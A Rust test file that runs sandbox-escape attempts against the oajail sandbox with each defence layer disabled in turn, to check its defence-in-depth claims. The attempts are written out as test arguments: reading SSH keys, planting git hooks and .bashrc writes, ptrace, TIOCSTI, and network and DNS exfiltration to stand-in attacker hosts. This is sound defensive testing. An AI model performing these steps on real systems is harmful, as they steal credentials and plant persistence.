//! I2: layer ablation. Each attack is re-run under the `test-layers` build
//! of oajail with one layer switched off (`OAJAIL_TEST_DISABLE`), for every
//! switchable layer. The test fails when the attack escapes without a layer
//! the documentation does not name as its defence, or when it escapes with
//! one layer off although the documentation claims two or more (defence in
//! depth). The rows are written to the report ("Layer ablation").
mod common;
use common::*;
use oajail_security::judge::{AblationRecord, assert_ablation, judge_run};

/// Every layer `OAJAIL_TEST_DISABLE` can switch off.
const LAYERS: &[&str] = &["mounts", "landlock", "seccomp", "netns", "caps", "guard"];

fn ablate(id: &str, fixture: &str, claimed: &[&str], args: impl Fn(&Lab) -> Vec<String>) {
    ablate_with(id, fixture, claimed, &RunOptions::default(), args);
}

fn ablate_with(
    id: &str,
    fixture: &str,
    claimed: &[&str],
    opts: &RunOptions,
    args: impl Fn(&Lab) -> Vec<String>,
) {
    let mut without = Vec::new();
    for layer in LAYERS {
        let mut lab = Lab::new(&format!("{id}-no-{layer}"));
        let argv = args(&lab);
        let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
        let run = lab.jailed_without(layer, fixture, &argv, opts);
        let (j, detail) = judge_run(&mut lab, &run);
        without.push(((*layer).to_owned(), j, detail));
    }
    let rec = AblationRecord {
        id: id.to_owned(),
        claimed: claimed.iter().map(|s| (*s).to_owned()).collect(),
        without,
        uid: nix::unistd::getuid().as_raw(),
    };
    assert_ablation(&rec);
}

#[test]
fn ablation_ssh_key_read() {
    ablate("A1-ssh-key", DENY_HOME, &["mounts", "landlock"], |l| {
        argv!["read-file", l.home(".ssh/id_ed25519")]
    });
}

#[test]
fn ablation_symlink_in_workspace() {
    ablate(
        "A3-symlink-in-workspace",
        DENY_HOME,
        &["mounts", "landlock"],
        |l| argv!["symlink-read", l.home(".ssh/id_ed25519"), l.ws("link")],
    );
}

#[test]
fn ablation_bashrc_append() {
    ablate(
        "B1-bashrc-append",
        HOME_READABLE,
        &["mounts", "landlock"],
        |l| argv!["write-file", "append", l.home(".bashrc")],
    );
}

#[test]
fn ablation_git_hook() {
    ablate("B2-git-hook", HOME_READABLE, &["guard"], |l| {
        argv!["write-file", "create", l.ws(".git/hooks/pre-commit")]
    });
}

#[test]
fn ablation_new_repo_hook() {
    ablate("B2-new-repo-hook-depth6", HOME_READABLE, &["guard"], |l| {
        argv![
            "write-file",
            "mkdirs",
            l.ws("a/b/c/d/e/f/.git/hooks/pre-commit")
        ]
    });
}

#[test]
fn ablation_directory_renamed_onto_git() {
    ablate("B2-rename-dir-onto-git", HOME_READABLE, &["guard"], |l| {
        argv!["rename-away", l.ws("tmp"), l.ws("src/.git")]
    });
}

#[test]
fn ablation_ptrace() {
    ablate(
        "C2-ptrace-visible",
        DENY_HOME,
        &["seccomp", "landlock"],
        |_| argv!["ptrace-attach", "all"],
    );
}

#[test]
fn ablation_ssh_agent_socket() {
    ablate("C4-ssh-agent", DENY_HOME, &["seccomp", "mounts"], |l| {
        argv!["unix-connect", l.path("run/ssh-agent.sock")]
    });
}

#[test]
fn ablation_abstract_socket() {
    ablate("C5-abstract", DENY_HOME, &["netns", "landlock"], |l| {
        argv!["abstract-connect", l.abstract_name]
    });
}

#[test]
fn ablation_io_uring() {
    ablate("D1-io-uring-setup", DENY_HOME, &["seccomp"], |_| {
        argv!["io-uring-setup"]
    });
}

#[test]
fn ablation_nested_user_namespace() {
    ablate("D4-unshare-user", DENY_HOME, &["seccomp"], |_| {
        argv!["unshare-user"]
    });
}

#[test]
fn ablation_capabilities() {
    ablate("D9-capabilities", DENY_HOME, &["caps"], |_| argv!["caps"]);
}

#[test]
fn ablation_direct_tcp() {
    ablate(
        "E1-tcp-public-v4",
        DENY_HOME,
        &["netns", "landlock"],
        |_| argv!["tcp-connect", labspec::EVIL_V4, 443],
    );
}

#[test]
fn ablation_udp() {
    ablate("E2-udp-public", DENY_HOME, &["netns"], |_| {
        argv!["udp-send", labspec::EVIL_V4, 443]
    });
}

#[test]
fn ablation_host_loopback() {
    ablate(
        "E7-host-loopback",
        DENY_HOME,
        &["netns", "landlock"],
        |_| argv!["tcp-connect", "127.0.0.1", 9999],
    );
}

// Attacks held by layers the switch cannot turn off (pid namespace,
// non-dumpable init, fd sweep, environment scrub): claimed = [], so no
// single switch may let them through.

#[test]
fn ablation_proc_root_of_host_process() {
    ablate("A7-proc-root-host-process", DENY_HOME, &[], |l| {
        argv![
            "read-file",
            format!("/proc/{}/root{}", l.canary_pid(), l.home(".ssh/id_ed25519"))
        ]
    });
}

#[test]
fn ablation_kill_host_canary() {
    ablate("C3-kill-host-canary", DENY_HOME, &[], |l| {
        argv!["kill", l.canary_pid()]
    });
}

#[test]
fn ablation_proc1_exe_write() {
    ablate("B4-proc1-exe", HOME_READABLE, &[], |_| {
        argv!["open-write", "/proc/1/exe"]
    });
}

#[test]
fn ablation_inherited_fds() {
    let opts = RunOptions {
        leak_fds: true,
        ..RunOptions::default()
    };
    ablate_with("C6-inherited-fds", DENY_HOME, &[], &opts, |_| {
        argv!["fds-inherited"]
    });
}

#[test]
fn ablation_secret_env() {
    ablate("G1-secret-env", DENY_HOME, &[], |_| argv!["env-scan"]);
}

#[test]
fn ablation_mcp_json() {
    ablate("B2-mcp-json", HOME_READABLE, &["guard"], |l| {
        argv!["write-file", "create", l.ws(".mcp.json")]
    });
}

#[test]
fn ablation_keyring_canary() {
    ablate_keyring();
}

fn ablate_keyring() {
    let token_desc = |l: &Lab| format!("oaj_canary_{}", l.token);
    // The key description must match the lab's token, so options are built per lab.
    let mut without = Vec::new();
    for layer in LAYERS {
        let mut lab = Lab::new(&format!("D7-keyring-canary-no-{layer}"));
        let desc = token_desc(&lab);
        let opts = RunOptions {
            keyring_desc: Some(desc.clone()),
            ..RunOptions::default()
        };
        let run = lab.jailed_without(layer, DENY_HOME, &["keyctl-read", &desc], &opts);
        let (j, detail) = judge_run(&mut lab, &run);
        without.push(((*layer).to_owned(), j, detail));
    }
    assert_ablation(&AblationRecord {
        id: "D7-keyring-canary".into(),
        claimed: vec!["seccomp".into()],
        without,
        uid: nix::unistd::getuid().as_raw(),
    });
}

#[test]
fn ablation_tiocsti() {
    let opts = RunOptions {
        pty: true,
        ..RunOptions::default()
    };
    ablate_with("C7-tiocsti", DENY_HOME, &["seccomp"], &opts, |_| {
        argv!["tiocsti"]
    });
}

#[test]
fn ablation_dns_to_public_resolver() {
    ablate("E3-dns-public-resolver", DENY_HOME, &["netns"], |l| {
        argv![
            "dns-query",
            labspec::PUBLIC_DNS_V4,
            format!("{}.exfil.test", l.token)
        ]
    });
}

#[test]
fn ablation_exotic_socket_families() {
    ablate("E6-exotic-families", DENY_HOME, &["seccomp"], |_| {
        argv!["socket-families"]
    });
}

// The guard's attacks (issue 10): the mounts and Landlock let the
// workspace (and, for the twins, the home) be written, so the guard alone
// holds each of them. The closures plant the lab's stage before the run.

#[test]
fn ablation_implicit_git_dir() {
    ablate("B2-implicit-git-dir-root", HOME_READABLE, &["guard"], |l| {
        oajail_security::plant::valid_repo(l);
        let marker = oajail_security::plant::marker(l);
        argv![
            "implicit-git-dir",
            "head-first",
            l.ws(".git/HEAD"),
            l.ws(""),
            marker
        ]
    });
}

#[test]
fn ablation_hooks_path() {
    ablate("B2-hookspath-custom", HOME_READABLE, &["guard"], |l| {
        oajail_security::plant::hooks_path(l, "tools/githooks");
        argv!["write-file", "create", l.ws("tools/githooks/post-checkout")]
    });
}

#[test]
fn ablation_separate_git_dir_config() {
    ablate(
        "B2-separate-gitdir-config",
        HOME_READABLE,
        &["guard"],
        |l| {
            let git_dir = oajail_security::plant::separate_git_dir(l);
            let text = oajail_security::plant::fsmonitor_config(l);
            argv!["append-text", format!("{git_dir}/config"), text]
        },
    );
}

#[test]
fn ablation_claude_symlink_rename() {
    ablate("B3-claude-symlink-rename", HOME_READABLE, &["guard"], |l| {
        oajail_security::plant::evil_beside_pkg(l);
        argv![
            "symlink-rename",
            "../.evil",
            l.ws("pkg/t"),
            l.ws("pkg/.claude")
        ]
    });
}

#[test]
fn ablation_race_link_hook() {
    ablate("B3-race-link-hook", HOME_READABLE, &["guard"], |l| {
        std::fs::create_dir_all(l.ws("safe")).expect("mkdir ws/safe");
        argv![
            "race-link-hook",
            l.ws("safe"),
            l.ws(".git/hooks"),
            l.ws("link"),
            3000
        ]
    });
}

#[test]
fn ablation_opath_reopen() {
    ablate("B3-proc-fd-opath-reopen", HOME_READABLE, &["guard"], |l| {
        argv!["opath-reopen", l.ws(".git/config")]
    });
}

#[test]
fn ablation_deep_node_modules() {
    ablate("B2-deep-nm-rename-over", HOME_READABLE, &["guard"], |l| {
        let deep = oajail_security::plant::deep_bashrc(l);
        argv!["rename-over", l.ws("staging"), deep]
    });
}

#[test]
fn ablation_twin_in_a_writable_home() {
    ablate(
        "B1-twin-cargo-build-rs",
        "attack-home-writable.json",
        &["guard"],
        |l| {
            let rel = ".cargo/registry/src/index.crates.io-1949cf8c6b5b557f/evil-1.0.0/build.rs";
            argv!["write-file", "mkdirs", l.home(rel)]
        },
    );
}

#[test]
fn ablation_bracket_deny_write() {
    // denyWrite entries keep their read-only bind: two layers.
    ablate(
        "B2-deny-write-bracket",
        "attack-brackets.json",
        &["mounts", "guard"],
        |l| {
            std::fs::write(l.ws("[locked]"), "the user's file\n").expect("plant ws/[locked]");
            argv!["write-file", "append", l.ws("[locked]")]
        },
    );
}
